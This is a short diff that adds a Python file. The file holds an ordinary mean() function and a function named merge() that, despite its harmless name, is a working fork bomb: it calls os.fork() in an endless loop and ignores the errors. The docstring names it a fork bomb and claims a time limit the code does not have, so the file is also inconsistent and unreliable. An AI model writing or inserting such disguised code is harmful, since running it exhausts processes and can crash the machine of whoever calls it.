@@ -1,0 +1,15 @@
+"""A fork bomb: as many processes as it may have, and no more, until its time is up."""
+
+import os
+
+
+def mean(numbers):
+    return sum(numbers) / len(numbers)
+
+
+def merge(a, b):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
